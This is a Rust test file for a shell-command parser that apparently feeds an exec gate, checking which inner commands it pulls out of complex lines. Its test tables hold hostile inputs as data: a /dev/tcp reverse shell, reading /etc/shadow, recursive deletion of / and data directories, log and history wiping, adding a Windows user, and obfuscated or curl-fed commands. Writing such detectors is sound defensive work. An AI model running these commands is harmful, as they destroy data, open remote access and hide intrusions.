use super::*;

#[test]
fn reads_the_commands_a_line_runs() {
    let table: &[(&str, &[&str])] = &[
        ("ls -l /tmp", &["ls -l /tmp"]),
        ("  ", &[]),
        ("# just a comment", &[]),
        ("echo a # comment", &["echo a"]),
        ("a; b && c || d | e & f", &["a", "b", "c", "d", "e", "f"]),
        ("a\nb", &["a", "b"]),
        ("(cd /x && rm -rf y)", &["cd /x", "rm -rf y"]),
        ("{ a; b; }", &["a", "b"]),
        ("if true; then rm x; fi", &["true", "rm x"]),
        ("sudo rm -rf /var/lib/pgsql", &["rm -rf /var/lib/pgsql"]),
        ("sudo -u postgres pg_dump his", &["pg_dump his"]),
        ("sudo -iu postgres pg_dump his", &["pg_dump his"]),
        ("sudo -upostgres pg_dump his", &["pg_dump his"]),
        ("sudo --user=postgres -- pg_dump his", &["pg_dump his"]),
        ("sudo -i", &[]),
        ("sudo -l", &[]),
        ("sudo -e /etc/sudoers", &["sudoedit /etc/sudoers"]),
        ("sudo PGPASSWORD=x pg_dump his", &["pg_dump his"]),
        ("env -i PATH=/bin FOO=1 /usr/bin/rm -f x", &["rm -f x"]),
        ("env", &[]),
        ("HISTFILE=/dev/null", &["HISTFILE=/dev/null"]),
        ("LANG=C rm x", &["rm x"]),
        (
            "nohup nice -n 10 timeout 5m tar czf /tmp/a.tgz /data",
            &["tar czf /tmp/a.tgz /data"],
        ),
        (
            "find /data -name '*.csv' | xargs -0 -n 1 rm -f",
            &["find /data -name *.csv", "rm -f"],
        ),
        (
            "find /var/log -name '*.gz' -exec rm {} \\;",
            &["rm {}", "find /var/log -name *.gz -exec rm {} ;"],
        ),
        (
            "bash -c 'pg_dump his > /tmp/h.sql'",
            &["pg_dump his > /tmp/h.sql"],
        ),
        (
            "sudo sh -lc \"sudo -u postgres psql -c 'DROP TABLE x'\"",
            &["psql -c DROP TABLE x"],
        ),
        ("su - postgres -c 'pg_dumpall'", &["pg_dumpall"]),
        ("su - postgres", &[]),
        (
            "echo $(cat /etc/shadow) `id`",
            &["echo `…` `…`", "cat /etc/shadow", "id"],
        ),
        ("echo '$(not run)'", &["echo $(not run)"]),
        (
            "cat /dev/null > /var/log/messages",
            &["cat /dev/null > /var/log/messages"],
        ),
        ("> /var/log/secure", &["> /var/log/secure"]),
        ("ls 2>/dev/null >>out.txt", &["ls > /dev/null >> out.txt"]),
        (
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            &["bash -i >& /dev/tcp/192.0.2.1/4444 >& 1"],
        ),
        ("\"/usr/bin/r\"m -r\\f /x", &["rm -rf /x"]),
        (
            "psql -c \"\\copy t to '/tmp/t.csv'\"",
            &["psql -c \\copy t to '/tmp/t.csv'"],
        ),
        (
            "'C:\\Windows\\System32\\cmd.exe' /c \"net user bob /add\"",
            &["net user bob /add"],
        ),
        ("CMD.EXE /C dir", &["dir"]),
        (
            "powershell -Command Clear-EventLog Security",
            &["Clear-EventLog Security"],
        ),
        (
            "watch -n 5 'ls /tmp; rm -f /tmp/x'",
            &["ls /tmp", "rm -f /tmp/x"],
        ),
        ("command -v rm", &["command -v rm"]),
        ("eval \"rm -rf /data\"", &["rm -rf /data"]),
    ];
    for (line, expected) in table {
        assert_eq!(simple_commands(line), *expected, "{line:?}");
    }
}

#[test]
fn deep_nesting_stops() {
    let mut line = "rm -rf /".to_owned();
    for depth in 1..=20 {
        line = format!("sh -c {line:?}");
        let found = simple_commands(&line);
        if depth <= MAX_DEPTH {
            assert_eq!(found, ["rm -rf /"], "{depth}");
        } else {
            // Past MAX_DEPTH: nothing is read, nothing loops or overflows.
            assert!(found.is_empty(), "{depth}");
        }
    }
}

#[test]
fn reads_what_the_exec_gate_needs() {
    let table: &[(&str, &[&str])] = &[
        ("env -S 'rm -rf /x'", &["rm -rf /x"]),
        ("script -qc 'rm x' /dev/null", &["rm x"]),
        ("flock /tmp/l -c 'rm x'", &["rm x"]),
        ("echo $((6*7))", &["echo `…`"]),
        // With a substitution inside, the arithmetic is read as a line (whose
        // "command" is then an expansion: uncertain to the exec gate).
        (
            "echo $(( $(id -u) + 1 ))",
            &["echo `…`", "`…` + 1", "id -u"],
        ),
        ("bash <(curl -s x)", &["bash /dev/fd/63", "curl -s x"]),
        ("$'\\x72m' -rf /x", &["$\\x72m -rf /x"]),
    ];
    for (line, expected) in table {
        assert_eq!(simple_commands(line), *expected, "{line:?}");
    }
    for (line, on_input) in [
        ("sudo -i", true),
        ("sudo -s", true),
        ("su - postgres", true),
        ("runuser -l postgres", true),
        ("echo ls | xargs sh -c", true),
        ("sudo -l", false),
        ("su - postgres -c id", false),
        ("runuser -u postgres -- id", false),
    ] {
        assert_eq!(read(line).shell_on_input, on_input, "{line:?}");
    }
    let reading = read("echo x | sudo sh -c 'base64 -d'");
    let inner = reading.commands.last().unwrap();
    assert_eq!(inner.words, ["base64", "-d"]);
    assert_eq!(inner.through, ["sudo", "sh"]);
    assert!(inner.piped);
    assert!(read("echo 'open").unbalanced);
}
